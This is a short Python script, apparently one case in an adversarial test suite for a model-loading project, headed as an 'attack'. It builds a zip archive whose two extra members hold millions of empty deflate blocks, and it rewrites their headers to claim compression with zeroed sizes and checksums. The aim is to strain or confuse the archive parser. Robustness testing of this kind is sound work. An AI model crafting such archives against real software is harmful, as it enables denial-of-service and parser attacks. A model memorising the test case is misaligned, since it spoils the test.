# /// attack
# slow = true
# tries = "packs nothing into fifteen mebibytes of deflate: three million blocks of no length, in each of two members"
# fails = []
# keeps = ["gpt.load", "matmul.forward", "scan.tiled"]
# ///
import struct
import zipfile
from pathlib import Path


def build(home: Path) -> Path:
    made = home.parent / "blocks.zip"
    blocks = b"\0\0\0\xff\xff" * 3_000_000 + b"\1\0\0\xff\xff"
    with zipfile.ZipFile(made, "w") as archive:
        for part in sorted(home.iterdir()):
            archive.write(part, part.name)
        for name in ("one.bin", "two.bin"):
            archive.writestr(name, blocks)
    data = bytearray(made.read_bytes())
    at = 0
    for _ in range(2):  # they are stored; call them deflated, of nothing
        at = data.index(b"PK\3\4", data.index(b"one.bin" if not at else b"two.bin") - 30)
        data[at + 8 : at + 10] = struct.pack("<H", 8)
        data[at + 14 : at + 18] = bytes(4)
        data[at + 22 : at + 26] = bytes(4)
        at += 1
    for name in (b"one.bin", b"two.bin"):
        at = data.rindex(b"PK\1\2", 0, data.rindex(name))
        data[at + 10 : at + 12] = struct.pack("<H", 8)
        data[at + 16 : at + 20] = bytes(4)
        data[at + 24 : at + 28] = bytes(4)
    made.write_bytes(data)
    return made
